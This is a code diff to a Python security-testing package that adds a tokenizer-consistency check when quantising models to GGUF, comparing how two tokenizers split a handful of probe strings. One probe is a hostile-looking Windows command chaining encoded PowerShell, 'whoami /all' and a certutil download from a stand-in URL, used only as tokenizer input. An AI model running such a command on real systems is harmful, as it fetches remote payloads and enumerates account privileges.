@@ -16,8 +16,10 @@ from typing import Any
 
 from pytest_slmsec.core.errors import QuantizeError
 from pytest_slmsec.engines.checkpoint import Checkpoint, read_checkpoint, support_files
+from pytest_slmsec.engines.llamacpp.context import LlamaModel
 from pytest_slmsec.engines.llamacpp.gguf_file import read_gguf
 from pytest_slmsec.engines.llamacpp.library import complaints, import_gguf, import_llama, n_threads, reason
+from pytest_slmsec.engines.llamacpp.vocabulary import GgufTokenizer
 from pytest_slmsec.engines.loading import check_vocabulary, load_tokenizer
 from pytest_slmsec.engines.settings import EngineSettings
 from pytest_slmsec.engines.transformers_ import load_config
@@ -37,6 +39,13 @@ FILE_TYPES: Mapping[str, str] = {
     "q2_k": "LLAMA_FTYPE_MOSTLY_Q2_K",
 }
 """llama.cpp's name for each quantisation."""
+PROBES = (
+    "Failed logon for ADMIN$ from 10.0.0.7:4444 at 2024-05-01T12:00:00Z, 3,000 times; it's odd.",
+    "CVE-2024-12345  CWE-79\r\n\tif (x == NULL) { return -1; }\n\n\n  }",
+    "We'll see, don't we? THEY'RE here; 50% of $1,234.56 (approx.)",
+    "naïve Größe Ωμέγα приклад 漏洞利用 👩‍💻",
+    'powershell -enc SQBFAFgA==; cmd.exe /c "whoami /all" && certutil -urlcache -f http://example.org/a.bin',
+)
 K_BLOCK = 256
 """Weights in a block of the k-quants; rows that do not divide into such blocks get another type."""
 
@@ -61,6 +70,7 @@ def quantize_weights(
         whole = Path(scratch) / FILE
         settings.report(f"{recipe.quant}: writing the weights as GGUF", 0.0)
         convert(checkpoint, whole)
+        differing = differing_tokens(whole, load_tokenizer(base))
         settings.report(f"{recipe.quant}: quantising", 0.5)
         _quantise(whole, out / FILE, recipe.quant)
     for path in support_files(base):
@@ -68,7 +78,7 @@ def quantize_weights(
             place = out / path.relative_to(base)
             place.parent.mkdir(exist_ok=True)
             shutil.copyfile(path, place)
-    return _facts(out / FILE, recipe.quant)
+    return _facts(out / FILE, recipe.quant) | {"probe_texts": len(PROBES), "probe_texts_cut_differently": differing}
 
 
 def convert(checkpoint: Checkpoint, path: Path) -> None:
@@ -90,6 +100,19 @@ def convert(checkpoint: Checkpoint, path: Path) -> None:
         write_weights(writer, checkpoint, config)
     finally:
         writer.close()
+
+
+def differing_tokens(path: Path, tokenizer: Any) -> int:
+    """How many of a few texts the file's own tokenizer cuts differently from the Hugging Face tokenizer.
+
+    Evaluations here use the latter; whoever runs the file elsewhere gets the former.
+    """
+    model = LlamaModel(path, None)
+    own = GgufTokenizer(model, read_gguf(path))
+    try:
+        return sum(own(text)["input_ids"] != list(tokenizer(text)["input_ids"]) for text in PROBES)
+    finally:
+        model.close()
 
 
 def _file_type(checkpoint: Checkpoint) -> int:
